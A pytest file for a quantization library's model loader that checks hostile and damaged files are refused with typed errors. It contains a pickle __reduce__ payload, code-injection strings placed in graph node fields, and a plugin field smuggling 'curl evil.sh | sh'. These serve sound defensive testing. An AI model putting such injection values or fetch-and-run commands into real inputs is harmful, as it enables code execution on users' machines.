"""qp.load on hostile and damaged files (reliability rows 35-38, G11): a typed error, never code.

Every test starts from a good artifact of a small hand-built reference model and damages it the
way a bad disk, a bad copy or an attacker would.
"""

from __future__ import annotations

import json
import os
import pickle
import random
import re
import warnings
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import torch
from artifactkit import (
    module,
    node,
    reference_model,
    rewrite,
    with_bit_flipped,
    with_metadata_field,
    with_value_scaled,
    without_digest,
)
from safetensors.torch import save_file
from torch import nn

import qplug_core as qp
from qplug_core.config.defaults import dynamic_qconfig
from qplug_core.errors import BackendNotFoundError, QplugError, SerializationError, UnsafeFileError
from qplug_core.registry.plugins import QplugPluginWarning
from qplug_core.serialization import files, load, save
from qplug_core.serialization.digest import DIGEST_KEY

WEIGHT = "fc.module.weight"


@pytest.fixture
def good_file(tmp_path: Path) -> Path:
    return save(reference_model(), tmp_path / "good.safetensors")


@pytest.fixture
def sentinel(tmp_path: Path) -> Path:
    return tmp_path / "pwned"


def test_good_file_loads(good_file):
    x = torch.randn(2, 4)
    assert torch.equal(load(good_file)(x), reference_model()(x))


# -- pickles (row 35, G11) -------------------------------------------------------------------------


class Payload:
    """Unpickling this creates a directory: the observable stand-in for arbitrary code."""

    def __init__(self, path: Path):
        self.path = str(path)

    def __reduce__(self):
        return os.mkdir, (self.path,)


@pytest.mark.parametrize("writer", ["torch.save", "pickle-2", "pickle-5"])
def test_pickle_payload_is_refused_and_never_runs(writer, tmp_path, sentinel):
    path = tmp_path / "model.pt"
    if writer == "torch.save":
        torch.save({"state": Payload(sentinel)}, path)
    else:
        path.write_bytes(pickle.dumps(Payload(sentinel), protocol=int(writer[-1])))
    pickle.loads(pickle.dumps(Payload(sentinel)))  # the payload is live: unpickling runs it
    assert sentinel.exists()
    sentinel.rmdir()

    with pytest.raises(UnsafeFileError, match="pickle") as info:
        load(path)
    assert str(path) in str(info.value) and "qp.save" in str(info.value)
    assert not sentinel.exists()


# -- damaged files (row 36) ------------------------------------------------------------------------


def header_size(path: Path) -> int:
    return int.from_bytes(path.read_bytes()[:8], "little")


def test_truncated_file_names_the_file(good_file):
    data = good_file.read_bytes()
    header = header_size(good_file)
    for end in sorted({0, 3, 8, 9, 8 + header // 2, 8 + header, 8 + header + 1, len(data) // 2 + header // 2,
                       len(data) - 1}):
        good_file.with_name("cut.safetensors").write_bytes(data[:end])
        with pytest.raises(SerializationError) as info:
            load(good_file.with_name("cut.safetensors"))
        assert "cut.safetensors" in str(info.value), end


def test_cut_or_padded_tensor_data_says_so(good_file):
    """An interrupted copy cuts the tensor data, most of the file: the header is intact, so the
    error says how many bytes the tensors need, not that the header is malformed."""
    data = good_file.read_bytes()
    end = (len(data) + 8 + header_size(good_file)) // 2  # half way through the tensors
    cut, padded = good_file.with_name("cut.safetensors"), good_file.with_name("padded.safetensors")
    cut.write_bytes(data[:end])
    padded.write_bytes(data + bytes(16))
    with pytest.raises(SerializationError, match=f"truncated: its tensors need {len(data)} bytes but the file "
                                                 f"has {end}; copy the file again"):
        load(cut)
    with pytest.raises(SerializationError, match="corrupt: 16 bytes follow the last tensor"):
        load(padded)


@pytest.mark.parametrize("declared", [2**63 - 1, 10**9, 100_000_001])
def test_huge_declared_header_is_refused_before_reading(good_file, declared):
    data = good_file.read_bytes()
    good_file.write_bytes(declared.to_bytes(8, "little") + data[8:])
    with pytest.raises(SerializationError, match="declares") as info:
        load(good_file)
    assert str(good_file) in str(info.value)


def test_flipped_header_bytes_give_a_serialization_error(good_file):
    data = bytearray(good_file.read_bytes())
    header = header_size(good_file)
    for offset in range(8, 8 + header, max(1, header // 40)):
        damaged = bytearray(data)
        damaged[offset] ^= 0xFF
        good_file.with_name("flipped.safetensors").write_bytes(bytes(damaged))
        with pytest.raises(SerializationError) as info:
            load(good_file.with_name("flipped.safetensors"))
        assert "flipped.safetensors" in str(info.value), offset


def test_random_damage_is_a_typed_error_never_other_answers(good_file):
    data = good_file.read_bytes()
    x = torch.randn(2, 4)
    expected = reference_model()(x)
    rng = random.Random(0)
    for _ in range(60):
        damaged = bytearray(data)
        for _ in range(rng.randint(1, 3)):
            damaged[rng.randrange(len(damaged))] = rng.randrange(256)
        good_file.with_name("random.safetensors").write_bytes(bytes(damaged))
        try:
            loaded = load(good_file.with_name("random.safetensors"))
        except QplugError:
            continue
        assert torch.equal(loaded(x), expected)  # loads only where nothing it computes with changed


def test_absurdly_nested_document_is_refused(tmp_path):
    path = tmp_path / "nested.safetensors"
    nested = '{"format": "qplug", "schema_version": 1, "model": ' + "[" * 200_000 + "]" * 200_000 + "}"
    save_file({"x": torch.zeros(1)}, str(path), metadata={"qplug": nested})
    with pytest.raises(SerializationError, match="nested.safetensors"):
        load(path)


def test_not_a_qplug_file(tmp_path):
    with pytest.raises(SerializationError, match="no such file"):
        load(tmp_path / "missing.safetensors")
    plain = tmp_path / "plain.safetensors"
    save_file({"x": torch.zeros(2)}, str(plain))
    with pytest.raises(SerializationError, match="without qplug metadata"):
        load(plain)


# -- damage only the digest sees: valid values, other answers (row 36) ------------------------------

CHANGED = "contents changed after it was written"


def _mlp() -> nn.Module:
    torch.manual_seed(0)
    return nn.Sequential(nn.Linear(16, 32), nn.ReLU(), nn.Linear(32, 4)).eval()


class _Tagger(nn.Module):
    """An LSTM and a linear head; an ``_inputs`` tensor is one unbatched sequence of 8 steps."""

    def __init__(self) -> None:
        super().__init__()
        torch.manual_seed(0)
        self.rnn, self.head = nn.LSTM(16, 32), nn.Linear(32, 4)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.head(self.rnn(x)[0])


class _Cells(nn.Module):
    """The three RNN cells in a row; an ``_inputs`` tensor is a batch of 8."""

    def __init__(self) -> None:
        super().__init__()
        torch.manual_seed(0)
        self.lstm, self.gru, self.rnn = nn.LSTMCell(16, 32), nn.GRUCell(32, 32, bias=False), nn.RNNCell(32, 4)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.rnn(self.gru(self.lstm(x)[0]))


def _inputs(seed: int) -> torch.Tensor:
    return torch.randn(8, 16, generator=torch.Generator().manual_seed(seed))


def _graph(mode: str, backend: str = "reference") -> nn.Module:
    prepare = qp.prepare_qat_fx if mode == "qat" else qp.prepare_fx
    model = _mlp().train() if mode == "qat" else _mlp()
    observed = prepare(model, qp.get_default_qconfig_mapping(backend, mode), (_inputs(0),), backend=backend)
    qp.calibrate(observed, [(_inputs(seed),) for seed in range(3)], progress=False)
    return qp.convert_fx(observed.eval())


DYNAMIC = dynamic_qconfig(per_channel=True, reduce_range=True)


@dataclass(frozen=True)
class FileKind:
    quantize: Callable[[], nn.Module]
    #: the float model ``qp.load(path, model=...)`` fills (module-swap files); None: a graph file
    model: Callable[[], nn.Module] | None = None
    #: needs the installed fbgemm plugin
    fbgemm: bool = False
    #: of the model's inputs
    dtype: torch.dtype = torch.float32
    #: safetensors dtypes of the quantized weights, of the scales (float16 weights have none: one of
    #: their values is changed instead), and a word of the scales' names
    weights: tuple[str, ...] = ("I8", "U8")
    scales: tuple[str, ...] = ("F32", "F64")
    scale_word: str = "scale"


FILE_KINDS = {
    "graph static": FileKind(lambda: _graph("static")),
    "graph static fbgemm": FileKind(lambda: _graph("static", "fbgemm"), fbgemm=True),
    "graph qat": FileKind(lambda: _graph("qat")),
    "graph dynamic": FileKind(lambda: _graph("dynamic")),
    "weight-only int4": FileKind(lambda: qp.quantize_weights(_mlp(), bits=4, group_size=16), _mlp),
    "weight-only int8": FileKind(lambda: qp.quantize_weights(_mlp(), bits=8), _mlp),
    "weight-only int4 bfloat16": FileKind(lambda: qp.quantize_weights(_mlp().bfloat16(), bits=4,
                                                                      group_size=16),
                                          lambda: _mlp().bfloat16(), dtype=torch.bfloat16),
    "w8a8": FileKind(lambda: qp.quantize_w8a8(_mlp(), [_inputs(s) for s in range(3)], alpha=None), _mlp),
    "per-token dynamic": FileKind(lambda: qp.quantize_dynamic(_mlp(), per_token=True), _mlp),
    "dynamic int8 linears": FileKind(lambda: qp.quantize_dynamic(_mlp(), {nn.Linear: DYNAMIC},
                                                                 backend="fbgemm"), _mlp, fbgemm=True),
    "dynamic int8 lstm": FileKind(lambda: qp.quantize_dynamic(_Tagger().eval(), {nn.LSTM: DYNAMIC},
                                                              backend="fbgemm"), lambda: _Tagger().eval(), fbgemm=True),
    "dynamic float16 lstm": FileKind(lambda: qp.quantize_dynamic(_Tagger().eval(), dtype=torch.float16, backend="fbgemm"),
                                     lambda: _Tagger().eval(), fbgemm=True, weights=("F16",), scales=("F16",),
                                     scale_word="weight"),
    "dynamic int8 cells": FileKind(lambda: qp.quantize_dynamic(_Cells().eval(), dict.fromkeys((nn.LSTMCell, nn.GRUCell, nn.RNNCell), DYNAMIC),
                                                               backend="fbgemm"), lambda: _Cells().eval(), fbgemm=True),
    "dynamic float16 cells": FileKind(lambda: qp.quantize_dynamic(_Cells().eval(), dtype=torch.float16, backend="fbgemm"),
                                      lambda: _Cells().eval(), fbgemm=True, weights=("F16",), scales=("F16",),
                                      scale_word="weight"),
}


@dataclass(frozen=True)
class Saved:
    path: Path
    kind: FileKind

    def load(self, path: Path) -> nn.Module:
        """The model in ``path``, a file of this kind."""
        return qp.load(path) if self.kind.model is None else qp.load(path, model=self.kind.model())


@pytest.fixture(params=list(FILE_KINDS))
def saved(request, tmp_path) -> Saved:
    """A file of each kind qp.save writes."""
    kind = FILE_KINDS[request.param]
    if kind.fbgemm:
        request.getfixturevalue("installed_backends")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # which backend was picked: not under test
        return Saved(qp.save(kind.quantize(), tmp_path / "model.safetensors"), kind)


def _header(path: Path) -> dict[str, Any]:
    raw = path.read_bytes()
    return json.loads(raw[8:8 + int.from_bytes(raw[:8], "little")])


def _first(path: Path, dtypes: tuple[str, ...], word: str) -> str:
    return min(name for name, entry in _header(path).items()
               if name != "__metadata__" and entry["dtype"] in dtypes and word in name)


def test_a_flipped_weight_bit_is_refused_naming_the_file(saved):
    weight = _first(saved.path, saved.kind.weights, "weight")
    damaged = with_bit_flipped(saved.path, saved.path.with_name("flipped.safetensors"), weight)
    with pytest.raises(SerializationError, match=CHANGED) as info:
        saved.load(damaged)
    assert str(damaged) in str(info.value) and "damaged in transfer" in str(info.value)


def test_a_scale_changed_to_another_positive_value_is_refused(saved):
    scale = _first(saved.path, saved.kind.scales, saved.kind.scale_word)
    damaged = with_value_scaled(saved.path, saved.path.with_name("scaled.safetensors"), scale, 1.5)
    with pytest.raises(SerializationError, match=CHANGED) as info:
        saved.load(damaged)
    assert str(damaged) in str(info.value)


def test_a_changed_document_value_is_refused(saved):
    document = json.loads(_header(saved.path)["__metadata__"]["qplug"])
    if "model" in document:
        document["model"]["training"] = True  # the loaded model would run in training mode
    else:
        document["skipped"] = {"0": "edited"}
    edited = with_metadata_field(saved.path, saved.path.with_name("edited.safetensors"), "qplug",
                                 json.dumps(document))
    with pytest.raises(SerializationError, match=CHANGED) as info:
        saved.load(edited)
    assert str(edited) in str(info.value)


def test_a_file_without_a_digest_loads_as_files_written_before_digests(saved):
    assert re.fullmatch("sha256:[0-9a-f]{64}", _header(saved.path)["__metadata__"][DIGEST_KEY])
    older = without_digest(saved.path, saved.path.with_name("older.safetensors"))
    assert DIGEST_KEY not in _header(older)["__metadata__"]
    x = _inputs(5).to(saved.kind.dtype)
    with torch.no_grad():
        assert torch.equal(saved.load(older)(x), saved.load(saved.path)(x))


@pytest.mark.parametrize(("value", "message"), [
    ("", "is not a digest qp.save writes"),
    ("sha256:" + "0" * 63, "is not a digest qp.save writes"),
    ("sha256:" + "A" * 64, "is not a digest qp.save writes"),
    ("sha256:" + "0" * 64 + "\n", "is not a digest qp.save writes"),
    ("blake2b:" + "0" * 128, "is not a digest qp.save writes"),
    ("sha256:" + "0" * 64, CHANGED),
])
def test_a_digest_field_that_is_there_must_be_well_formed_and_match(good_file, value, message):
    path = with_metadata_field(good_file, good_file.with_name("malformed.safetensors"), DIGEST_KEY, value)
    with pytest.raises(SerializationError, match=message) as info:
        load(path)
    assert str(path) in str(info.value)


def test_damage_is_found_where_the_file_is_read_from_its_bytes(good_file, monkeypatch):
    monkeypatch.setattr(files, "_descriptor_path", lambda fd: None)  # no /proc/self/fd
    x = torch.randn(2, 4)
    assert torch.equal(load(good_file)(x), reference_model()(x))
    with pytest.raises(SerializationError, match=CHANGED):
        load(with_bit_flipped(good_file, good_file.with_name("flipped.safetensors"), WEIGHT))


# -- tampered documents and tensors (rows 37-38, G11) ----------------------------------------------


def _int8_as_int16(document, tensors):
    tensors[WEIGHT] = tensors[WEIGHT].to(torch.int16)


def _int8_as_int16_in_table_too(document, tensors):
    _int8_as_int16(document, tensors)
    document["model"]["tensors"][WEIGHT]["dtype"] = "torch.int16"


def _weight_stored_as_float(document, tensors):
    tensors[WEIGHT] = tensors[WEIGHT].float()
    document["model"]["tensors"][WEIGHT] = {"dtype": "torch.float32", "shape": [3, 4]}


def _call(target: str, *args: Any) -> Callable[[dict, dict], None]:
    def edit(document, tensors):
        node(document, "fc").update(op="call_function", target=target, args=list(args))
    return edit


def _set(getter: Callable[[dict], dict], **fields: Any) -> Callable[[dict, dict], None]:
    def edit(document, tensors):
        getter(document).update(fields)
    return edit


def _absorbed(layer: str = "fc", **fields: Any) -> Callable[[dict, dict], None]:
    """An absorbed-clamp record (flows/clamps.py) for ``layer``, with ``fields`` replaced."""
    def edit(document, tensors):
        entry = {"low": 0.0, "high": 6.0, "op": "ReLU6", "module": "act", **fields}
        document["model"]["absorbed_clamps"] = {layer: entry}
    return edit


def _folded(conv: str = "fc", **fields: Any) -> Callable[[dict, dict], None]:
    """A folded-affine record (flows/channel_affine.py) for ``conv`` (3 output channels), with
    ``fields`` replaced."""
    def edit(document, tensors):
        entry = {"scale": [1.0, 2.0, 0.5], "shift": [0.0, 1.0, -1.0], "module": "bn", **fields}
        document["model"]["folded_affines"] = {conv: entry}
    return edit


def _functional(record: Any) -> Callable[[dict, dict], None]:
    """A functional-weight record (flows/normalize.py): layer -> the float weight's path."""
    def edit(document, tensors):
        document["model"]["functional_weights"] = record
    return edit


TAMPERING = {
    "missing tensor": (lambda d, t: t.pop("fc.module.bias"), "missing \\['fc.module.bias'\\]"),
    "extra tensor": (lambda d, t: t.update(smuggled=torch.zeros(1)), "extra \\['smuggled'\\]"),
    "unused tensor": (lambda d, t: (t.update(smuggled=torch.zeros(1)), d["model"]["tensors"].update(
                          smuggled={"dtype": "torch.float32", "shape": [1]})), "not used by any module"),
    "int8 weight stored as int16": (_int8_as_int16, "torch.int16"),
    "int8 weight as int16, table edited too": (_int8_as_int16_in_table_too, "stored as torch.int8"),
    "quantized weight stored as float": (_weight_stored_as_float, "must be stored as its int8 values"),
    "wrong shape in table": (lambda d, t: d["model"]["tensors"]["fc.module.bias"].update(shape=[4]),
                             "table says"),
    "newer schema_version": (lambda d, t: d.update(schema_version=2), "schema_version"),
    "other format": (lambda d, t: d.update(format="other"), "not a qplug artifact"),
    "os.system as a call target": (_call("os.system", "touch pwned"), "disallowed name 'os.system'"),
    "torch.load as a call target": (_call("torch.load", "evil.pt"), "disallowed name 'torch.load'"),
    "subprocess class as a module": (_set(lambda d: module(d, "quantize"), **{"class": "subprocess.Popen"}),
                                     "disallowed name 'subprocess.Popen'"),
    "code in a node name": (_set(lambda d: node(d, "fc"), name="fc=__import__('os').mkdir('pwned')#"),
                            "not a plain Python identifier"),
    "code in a placeholder": (_set(lambda d: node(d, "x"), target="x=__import__('os').mkdir('pwned')"),
                              "not an argument name"),
    "code in a module path": (_set(lambda d: node(d, "fc"), target='fc")(__import__("os").mkdir("pwned")'),
                              "not a dotted path"),
    "code in a keyword": (_set(lambda d: node(d, "fc"), kwargs=[["a=__import__('os').mkdir('pwned'),b", 1]]),
                          "not a plain Python identifier"),
    "dunder module path": (_set(lambda d: node(d, "fc"), target="__class__"), "not a dotted path"),
    "integer dequantize dtype": (lambda d, t: d["model"]["tensors"][WEIGHT].update(int8_of="torch.int64"),
                                 "not a float dtype"),
    "dunder method": (_set(lambda d: node(d, "fc"), op="call_method", target="__reduce__"), "private"),
    "dunder attribute": (_call("builtins.getattr", {"node": "x"}, "__class__"), "private"),
    "forward reference": (_set(lambda d: node(d, "quantize"), args=[{"node": "fc"}]),
                          "not defined before it"),
    "method override": (_set(lambda d: module(d, "quantize"), attrs={"forward": {"callable": "torch.relu"}}),
                        "cannot be set from a file"),
    "code in an absorbed clamp's layer": (_absorbed('fc")(__import__("os").mkdir("pwned")'), "not a dotted path"),
    "dunder absorbed clamp module": (_absorbed(module="__class__"), "not a dotted path"),
    "absorbed clamp bound a string": (_absorbed(high="6"), "a number or null"),
    "absorbed clamp bound infinite": (_absorbed(low=float("-inf")), "not a finite number"),
    "absorbed clamp bounds reversed": (_absorbed(low=7.0), "above high bound"),
    "absorbed clamp op as code": (_absorbed(op="relu6(); import os"), "not an op name"),
    "code in a folded affine's conv": (_folded('fc")(__import__("os").mkdir("pwned")'), "not a dotted path"),
    "dunder folded affine module": (_folded(module="__class__"), "not a dotted path"),
    "folded affine scale infinite": (_folded(scale=[1.0, float("inf"), 1.0]), "not a finite number"),
    "folded affine scales and shifts differ": (_folded(shift=[0.0]), "3 scales for 1 shifts"),
    "folded affine of another channel count": (_folded(scale=[1.0] * 5, shift=[0.0] * 5),
                                               r"5 values for a conv of weight shape \(3, 4\)"),
    "folded affine of no module": (_folded("nosuch"), "3 values for no conv"),
    "code in a functional layer": (_functional({'fc")(__import__("os").mkdir("pwned")': "w"}), "not a dotted path"),
    "dunder functional weight": (_functional({"fc": "__class__.__init__"}), "not a dotted path"),
    "functional weight not a string": (_functional({"fc": ["w"]}), "not a dotted path"),
    "functional record a list": (_functional(["fc"]), "a JSON object"),
}


@pytest.mark.parametrize("case", list(TAMPERING))
def test_tampered_file_gives_a_serialization_error_and_runs_nothing(case, good_file, sentinel, monkeypatch):
    monkeypatch.chdir(good_file.parent)  # relative payload paths would land next to the sentinel
    edit, message = TAMPERING[case]
    path = rewrite(good_file, edit)
    with pytest.raises(SerializationError, match=message) as info:
        load(path)
    assert str(path) in str(info.value)
    assert not sentinel.exists()


# -- backends and plugins (row 37) -----------------------------------------------------------------


@pytest.mark.parametrize(("plugins", "command"), [
    ([{"name": "nosuch", "dist": "nosuch-vendor", "version": "1.0"}], "pip install nosuch-vendor"),
    ([], "pip install qplug-nosuch"),
    ([{"name": "nosuch", "dist": "x; curl evil.sh | sh", "version": "1.0"}], "pip install qplug-nosuch"),
])
def test_backend_not_installed_says_what_to_install(good_file, plugins, command):
    path = rewrite(good_file, lambda d, t: d.update(backend="nosuch", plugins=plugins))
    with pytest.raises(BackendNotFoundError, match=command) as info:
        load(path)
    assert "curl" not in str(info.value)
    assert str(path) in str(info.value) and "backend='reference'" in str(info.value)
    assert torch.equal(load(path, backend="reference")(torch.ones(1, 4)), reference_model()(torch.ones(1, 4)))


def test_known_backend_not_loaded_names_its_distribution(good_file):
    # the tests load only the built-in plugins, so fbgemm is "not installed" here
    saved = [{"name": "fbgemm", "dist": "qplug-fbgemm", "version": "0.1.0"}]
    path = rewrite(good_file, lambda d, t: d.update(backend="fbgemm", plugins=saved))
    with pytest.raises(BackendNotFoundError, match="pip install qplug-fbgemm"):
        load(path)


def test_incompatible_plugin_version_warns_and_loads(good_file, plugin_autoload):
    if not any(info.name == "fbgemm" and info.available for info in qp.list_backends()):
        pytest.skip("backend 'fbgemm' is not installed and available here")
    saved = [{"name": "fbgemm", "dist": "qplug-fbgemm", "version": "7.0.0"}]
    path = rewrite(good_file, lambda d, t: d.update(backend="fbgemm", plugins=saved))
    with pytest.warns(QplugPluginWarning, match="qplug-fbgemm 7.0.0"):
        loaded = load(path)
    assert qp.quantization_report(loaded).backend == "fbgemm"
